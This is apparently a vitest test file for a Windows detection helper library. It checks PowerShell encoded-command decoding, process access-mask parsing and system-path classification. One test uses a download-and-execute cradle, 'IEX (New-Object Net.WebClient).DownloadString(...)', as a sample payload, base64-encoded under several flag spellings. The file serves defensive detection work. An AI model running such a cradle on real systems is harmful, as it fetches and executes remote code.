import { describe, expect, it } from 'vitest';
import {
  accessCapabilities,
  decodePowerShellCommand,
  isSystemPath,
  isUserWritablePath,
  parseAccessMask,
  SYSTEM_PATH_PATTERN,
} from './windows';

const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('windows helpers', () => {
  it('decodes PowerShell encoded commands under every abbreviation', () => {
    const payload = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    for (const flag of ['-e', '-ec', '-enc', '-EncodedCommand', '/enc', '-EnCoDeD']) {
      expect(decodePowerShellCommand(`powershell.exe -nop ${flag} ${enc(payload)}`)).toBe(payload);
    }
    expect(decodePowerShellCommand('powershell -ExecutionPolicy Bypass -File x.ps1')).toBeUndefined();
    expect(decodePowerShellCommand('powershell -enc !!!notbase64')).toBeUndefined();
  });

  it('parses access masks in every spelling and tells what they allow', () => {
    expect(parseAccessMask('0x1010')).toBe(0x1010);
    expect(parseAccessMask('0x00001010')).toBe(0x1010);
    expect(parseAccessMask('4112')).toBe(0x1010);
    expect(parseAccessMask('nope')).toBeUndefined();
    expect(accessCapabilities(0x1010)).toMatchObject({ read: true, write: false });
    expect(accessCapabilities(0x1438)).toMatchObject({ read: true, write: true });
    expect(accessCapabilities(0x1fffff)).toMatchObject({
      read: true,
      write: true,
      dupHandle: true,
      thread: true,
    });
    expect(accessCapabilities(0x1400)).toMatchObject({ read: false, write: false, dupHandle: false });
    expect(accessCapabilities(0x40)).toMatchObject({ read: false, dupHandle: true });
  });

  it('knows user-writable and system folders', () => {
    expect(isUserWritablePath('C:\\Users\\bob\\Downloads\\x.exe')).toBe(true);
    expect(isUserWritablePath('C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe')).toBe(true);
    expect(isUserWritablePath('C:\\ProgramData\\x.exe')).toBe(true);
    expect(isUserWritablePath('\\\\server\\share\\x.exe')).toBe(true);
    expect(isUserWritablePath('C:\\Program Files\\App\\x.exe')).toBe(false);
    expect(isUserWritablePath('C:\\ProgramData\\Microsoft\\Windows Defender\\x.exe')).toBe(false);
    expect(isSystemPath('C:\\Windows\\System32\\cmd.exe')).toBe(true);
    expect(isSystemPath('C:\\Windows\\PSEXESVC.exe')).toBe(false);
  });

  it('has one pattern for system folders that finds exactly what isSystemPath finds', () => {
    const re = new RegExp(SYSTEM_PATH_PATTERN, 'i');
    const paths = [
      'C:\\Windows\\System32\\cmd.exe',
      'c:\\windows\\syswow64\\rundll32.exe',
      'C:\\Windows\\explorer.exe',
      'C:\\Windows\\explorer.exe.bak',
      'C:\\Windows\\PSEXESVC.exe',
      'C:\\Program Files (x86)\\App\\a.exe',
      'C:\\Program Files\\App\\a.exe',
      'C:\\Program Filesx\\a.exe',
      'D:\\ProgramData\\Microsoft\\Windows Defender\\MsMpEng.exe',
      'C:\\ProgramData\\x.exe',
      'C:\\Users\\bob\\Downloads\\C:\\Windows\\System32\\x.exe',
      '\\\\server\\share\\Windows\\System32\\x.exe',
      '',
    ];
    expect(paths.filter((p) => isSystemPath(p)).length).toBeGreaterThan(4);
    for (const p of paths) expect(re.test(p), p).toBe(isSystemPath(p));
    // Unlike isSystemPath, the pattern sees the value untrimmed: a padded path is never called a system one.
    expect(isSystemPath(' C:\\Windows\\System32\\cmd.exe')).toBe(true);
    expect(re.test(' C:\\Windows\\System32\\cmd.exe')).toBe(false);
  });
});
